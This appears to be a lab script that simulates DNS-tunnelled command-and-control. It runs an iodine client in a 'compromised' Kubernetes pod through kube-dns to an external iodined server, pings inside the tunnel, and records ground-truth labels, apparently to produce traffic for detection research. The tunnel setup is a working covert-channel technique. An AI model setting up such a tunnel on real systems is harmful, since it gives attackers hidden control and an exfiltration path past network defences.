#!/usr/bin/env bash
# Command and control: IP over DNS with iodine. The client in the compromised pod
# asks kube-dns, which forwards t.tun.lab.test upstream to the iodined "name server".
set -euo pipefail
source "$LAB_DIR/lib.sh"
lab_assert_target "$EXT_IODINE_IP" 10.96.0.10 10.53.0.1
ns=$(lab_pod_ns toolbox)
gt_begin iodine command-and-control iodine pod:toolbox "svc:coredns@kube-system/kube-dns=10.96.0.10" \
  "iodine through kube-dns to t.tun.lab.test (iodined at $EXT_IODINE_IP), then pings inside the tunnel"
lab_bg "$NS_INET" iodined iodined -f -c -l "$EXT_IODINE_IP" -P labtunnel 10.53.0.1/27 t.tun.lab.test
sleep 0.5
lab_bg "$ns" iodine-client iodine -f -r -P labtunnel 10.96.0.10 t.tun.lab.test
for _ in $(seq 60); do grep -q 'Connection setup complete' "$LAB_RUN/logs/iodine-client.log" 2>/dev/null && break; sleep 0.5; done
grep -q 'Connection setup complete' "$LAB_RUN/logs/iodine-client.log" || lab_log "iodine: tunnel did not come up (see logs/iodine-client.log)"
lab_exec "$ns" timeout 20 ping -q -c 8 -i 0.3 -s 400 10.53.0.1 >>"$GT_LOG" 2>&1 || true
lab_stop_bg iodine-client; lab_stop_bg iodined
gt_end '{"dport":53,"upstream":{"domain":"t.tun.lab.test","ip":"'"$EXT_IODINE_IP"'"}}'
